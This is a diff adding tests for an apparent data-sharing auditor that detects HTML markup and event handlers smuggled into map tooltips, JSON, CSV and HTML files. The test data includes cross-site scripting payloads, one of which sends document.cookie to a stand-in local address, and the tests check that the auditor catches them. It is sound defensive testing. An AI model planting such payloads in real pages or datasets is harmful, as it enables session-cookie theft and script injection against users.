@@ -482,3 +482,76 @@ def test_html_comments_and_percent_encoded_data_uris_are_read(tmp_path, incident
     )
     kinds = {f.kind for f in audit(tmp_path, incidents).findings}
     assert kinds == {"fine_date", "identifying_value", "small_count"}
+
+
+SCRIPT_NAME = 'Kator"><img src=x onerror="new Image().src=\'//127.0.0.1:9/\'+document.cookie">'
+
+
+def _map_with_area_names(names):
+    areas = make_areas().assign(name=names)
+    hexagons = to_hexagon_frame(
+        pd.DataFrame({"h3_cell": ["8773b5a4bffffff"], "incidents": pd.array([40], "Int64")})
+    )
+    return make_coverage_map(
+        areas, hexagons, mission="TEST", period="2023-01 to 2023-04", synthetic=True
+    ).to_html()
+
+
+def test_markup_and_event_handlers_in_data_values_are_caught(tmp_path, incidents, monkeypatch):
+    from protection_eval.sharing import maps
+    escaped_page = _map_with_area_names([SCRIPT_NAME, "Tom & Jerry's <b>x</b>"])
+    (tmp_path / "escaped_map.html").write_text(escaped_page, encoding="utf-8")
+    # The page as folium wrote it before names were escaped: a tooltip would run the script.
+    monkeypatch.setattr(maps, "_html_safe", lambda data: data)
+    (tmp_path / "planted_map.html").write_text(
+        _map_with_area_names([SCRIPT_NAME, "Munigi"]), encoding="utf-8"
+    )
+    (tmp_path / "summary.json").write_text(
+        json.dumps({"areas": [{"name": "<svg/onload=alert(1)>", "share": 0.5}]}),
+        encoding="utf-8",
+    )
+    (tmp_path / "gaps.csv").write_text(
+        'place,rank\n"x"" onmouseover=""alert(1)",1\nKibati,2\n', encoding="utf-8"
+    )
+    island = json.dumps({"label": "<script>alert(1)</script>"}).replace("/", "\\/")
+    (tmp_path / "island.html").write_text(
+        f'<html><body><script type="application/json">{island}</script></body></html>',
+        encoding="utf-8",
+    )
+    (tmp_path / "popup.html").write_text(
+        "<html><body><script>var html = $(`<div>Kibati<img src=x onerror=alert(1)></div>`)[0];"
+        "</script></body></html>",
+        encoding="utf-8",
+    )
+    result = audit(tmp_path, incidents)
+    kinds = kinds_by_file(result)
+    for name in ("planted_map.html", "summary.json", "gaps.csv", "island.html", "popup.html"):
+        assert "markup_in_data" in kinds.get(name, set()), (name, result.summary())
+    planted = [f for f in result.findings if f.file == "planted_map.html"]
+    assert any("<img src=x onerror=" in f.what and "properties/name" in f.where for f in planted)
+    gaps = next(f for f in result.findings if f.file == "gaps.csv")
+    assert gaps.where == "row 2, column place" and "onmouseover=" in gaps.what
+    # Escaped for HTML, the same names are text: the page passes.
+    assert "escaped_map.html" not in kinds, result.summary()
+
+
+@pytest.mark.parametrize(
+    ("value", "caught"),
+    [
+        ('Kator"><img src=x onerror="x()">', True),
+        ("<b>Kibati</b>", True),
+        ("<!-- hidden -->", True),
+        ('" onfocus="x()" autofocus="', True),
+        ("x onerror=alert(1)", True),
+        (html.escape('Kator"><img src=x onerror="x()">'), False),
+        ("Tom & Jerry's", False),
+        ("a < b", False),
+        ("<5 km from a base", False),
+        ("Bonne Année", False),
+        ("pardon=1", False),
+    ],
+)
+def test_markup_rule_on_single_values(value, caught):
+    from protection_eval.sharing.audit.rules import find_markup_in_value
+
+    assert (find_markup_in_value(value) is not None) is caught
